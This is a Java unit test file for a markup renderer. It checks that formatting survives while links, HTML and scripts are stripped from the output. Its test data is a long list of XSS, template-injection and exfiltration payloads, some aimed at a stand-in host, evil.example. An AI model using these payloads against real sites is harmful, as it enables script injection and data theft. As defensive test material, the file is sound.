package researchpaas.web;

import static java.util.stream.Collectors.joining;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.thymeleaf.context.Context;
import org.thymeleaf.spring6.SpringTemplateEngine;
import org.thymeleaf.templateresolver.ClassLoaderTemplateResolver;
import researchpaas.web.Markup.Block;
import researchpaas.web.Markup.Run;

class MarkupTest {
    @Test
    void keepsWhatMakesTextEasierToRead() {
        assertThat(Markup.of("One **strong** and *soft* `code`.\n\n- first\n- second").blocks())
                .containsExactly(
                        new Block(
                                false,
                                List.of(
                                        plain("One "),
                                        new Run("strong", true, false, false),
                                        plain(" and "),
                                        new Run("soft", false, true, false),
                                        plain(" "),
                                        new Run("code", false, false, true),
                                        plain("."))),
                        new Block(true, List.of(plain("first"))),
                        new Block(true, List.of(plain("second"))));
    }

    private static Run plain(String text) {
        return new Run(text, false, false, false);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "see [the page](https://evil.example/?q=1)",
                "see ![the page](https://evil.example/p.png \"t\")",
                "see [the page][x]\n\n[x]: https://evil.example",
                "see <a href='https://evil.example'>the page</a>",
                "# see the page",
                "> see the page",
            })
    void takesAwayWhatLeadsElsewhereAndKeepsTheWords(String text) {
        assertThat(words(text)).isEqualTo("see the page");
    }

    private static String words(String text) {
        return Markup.of(text).blocks().stream()
                .map(block -> block.runs().stream().map(Run::text).collect(joining()))
                .collect(joining("\n"))
                .strip();
    }

    static Stream<String> scripts() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<svg/onload=alert(1)>",
                "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
                "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](java&#x0A;script:alert(1))",
                "[x](data:text/html;base64,PHNjcmlwdD4=)",
                "![x](data:image/svg+xml;base64,PHN2Zz4=)",
                "![x](https://evil.example/?q=secret)",
                "![x\"onerror=alert(1)](y)",
                "<javascript:alert(1)>",
                "<https://evil.example>",
                "[a]: javascript:alert(1)\n\n[a]",
                "`<script>alert(1)</script>`",
                "```\n<script>alert(1)</script>\n```",
                "    <script>alert(1)</script>",
                "```html\" onclick=\"alert(1)\nx\n```",
                "\"><script>alert(1)</script>",
                "'-alert(1)-'",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&#60;img src=x onerror=alert(1)&#62;",
                "<!--><script>alert(1)</script>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?php echo 1 ?>",
                "**<b onmouseover=alert(1)>x</b>**",
                "[[${T(java.lang.Runtime).getRuntime()}]]",
                "[(${7*7})]",
                "__${7*7}__::.x",
                "{{7*7}} ${7*7} #{7*7}",
                "</p></main><script>alert(1)</script>",
                "\u202E<script>\u202C",
                "＜script＞alert(1)＜/script＞",
                "<table background=https://evil.example><tr><td>x</table>",
                "<link rel=stylesheet href=//evil.example>",
                "<meta http-equiv=refresh content='0;url=//evil.example'>",
                "<base href=//evil.example>",
                "<style>@import '//evil.example'</style>",
                "<form action=//evil.example><button>x</button></form>",
                "<p hx-get=//evil.example hx-trigger=load>x</p>");
    }

    @ParameterizedTest
    @MethodSource("scripts")
    void writesNoElementButItsOwn(String text) {
        String html = html(Markup.of("Before. " + text + "\n\n" + text + "\n\nAfter."));

        assertThat(html).startsWith("<p>Before.").contains("After.");
        assertThat(html.replaceAll("</?(?:p|strong|em|code)>", ""))
                .doesNotContain("<")
                .doesNotContain(">");
        assertThat(html).doesNotContain("evil.example/?q").doesNotContain("49");
    }

    @Test
    void takesNoStackForDeepNesting() {
        for (String one : List.of("> ", "- ", "*a **", "[", "![", "<b>", "**", "_", "1. ")) {
            assertThat(Markup.of(one.repeat(10_000) + "x").blocks()).hasSizeLessThan(20_000);
        }
    }

    private static String html(Markup markup) {
        ClassLoaderTemplateResolver files = new ClassLoaderTemplateResolver();
        files.setPrefix("templates/");
        files.setSuffix(".html");
        SpringTemplateEngine engine = new SpringTemplateEngine();
        engine.setTemplateResolver(files);
        Context context = new Context();
        context.setVariable("written", markup);
        return engine.process("markup", Set.of("markup"), context).strip();
    }
}
